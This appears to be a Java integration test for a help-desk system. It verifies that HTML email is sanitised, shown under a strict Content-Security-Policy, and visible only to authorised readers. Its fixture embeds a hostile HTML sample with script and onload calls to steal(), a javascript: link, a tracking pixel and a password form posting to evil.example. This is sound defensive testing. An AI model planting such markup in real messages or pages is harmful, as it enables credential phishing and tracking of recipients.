package io.flowdesk.mail.taking;

import static org.assertj.core.api.Assertions.assertThat;

import io.flowdesk.mail.store.IncomingMail;
import io.flowdesk.portal.Visitor;
import io.flowdesk.testing.EngineRest;
import io.flowdesk.testing.FlowdeskTest;
import io.flowdesk.testing.Reply;
import java.util.Objects;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestInstance.Lifecycle;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/** A mail that came as HTML is shown with its formatting to those who may read its ticket, and runs nothing there. */
@FlowdeskTest
@TestInstance(Lifecycle.PER_CLASS)
class HtmlOfMailsIT {

    private static final Pattern LINK = Pattern.compile("/portal/t/[A-Za-z0-9_-]{43}");

    private static final String LETTER =
            """
            From: %1$s
            To: help@flowdesk.local
            Subject: Printer of %1$s
            Message-ID: <%2$s@example.org>
            Date: Mon, 23 Nov 2026 09:00:00 +0000
            MIME-Version: 1.0
            Content-Type: text/html; charset=utf-8

            <html><body onload="steal()"><p>It prints <b>stripes</b>.</p><script>steal()</script>
            <img src="https://tracker.example/pixel.png"><a href="javascript:steal()">here</a>
            <form action="https://evil.example"><input name="password"></form></body></html>
            """;

    @LocalServerPort
    int port;

    @Autowired
    private Mailroom mailroom;

    @Autowired
    private JdbcClient database;

    private String ofTheDesk;
    private String ofThePortal;

    @BeforeAll
    void aMailWithHtmlBecomesATicketOfTheFrontDesk() throws Exception {
        String karen = "karen-" + UUID.randomUUID() + "@example.org";
        IncomingMail mail = mailroom.arrives(LETTER.formatted(karen, UUID.randomUUID()));
        long ticket = Objects.requireNonNull(mail.ticketId());
        mailroom.triaged(ticket);
        String path = "/messages/%d/html".formatted(messageOf(ticket));
        ofTheDesk = "/desk/tickets/" + ticket + path;
        Matcher link = LINK.matcher(mailroom.textTo(ticket, karen));
        assertThat(link.find()).isTrue();
        ofThePortal = link.group() + path;
    }

    private long messageOf(long ticket) {
        return database.sql("select id from message where ticket_id = ? order by seq limit 1")
                .param(ticket)
                .query(Long.class)
                .single();
    }

    @Test
    void anAgentOfTheTeamSeesTheFormattingAndNothingRuns() {
        Reply page =
                EngineRest.ofWebApp(port, "tasklist", "agent1").page(ofTheDesk).expect(200);
        assertHarmless(page.text(), page.header("Content-Security-Policy"));
        assertThat(page.header("X-Content-Type-Options")).isEqualTo("nosniff");
    }

    @Test
    void theRequesterSeesItByTheLinkOfHisLetter() {
        Visitor.Answer page = new Visitor(port).get(ofThePortal);
        assertThat(page.status()).isEqualTo(200);
        assertHarmless(page.text(), page.header("Content-Security-Policy"));
    }

    @Test
    void picturesOfOthersAreFetchedOnlyWhenTheReaderWantsThem() {
        Visitor.Answer page = new Visitor(port).get(ofThePortal + "?images=true");
        assertThat(page.text()).contains(" src=\"https://tracker.example/pixel.png\"");
        assertThat(page.header("Content-Security-Policy")).contains("img-src data: https: http:");
    }

    @Test
    void whoIsOfAnotherTeamOrNobodyDoesNotSeeIt() {
        assertThat(EngineRest.ofWebApp(port, "tasklist", "expert2")
                        .page(ofTheDesk)
                        .status())
                .isIn(403, 404);
        assertThat(new Visitor(port).get(ofTheDesk).status()).isIn(401, 403, 404);
    }

    @Test
    void aLinkToOneTicketShowsNoMailOfAnother() throws Exception {
        long other = mailroom.opened("mallory-" + UUID.randomUUID() + "@example.net");
        String foreign = ofThePortal.replaceFirst("messages/\\d+", "messages/" + messageOf(other));
        assertThat(new Visitor(port).get(foreign).status()).isEqualTo(404);
        assertThat(EngineRest.ofWebApp(port, "tasklist", "agent1")
                        .page(ofTheDesk.replaceFirst("messages/\\d+", "messages/" + messageOf(other)))
                        .status())
                .isEqualTo(404);
    }

    private static void assertHarmless(String page, String policy) {
        assertThat(page)
                .contains("<b>stripes</b>")
                .doesNotContain("steal", "<script", "<form", "<input", "onload", " src=\"https://tracker.example");
        assertThat(policy).contains("default-src 'none'", "img-src data:;", "sandbox", "form-action 'none'");
    }
}
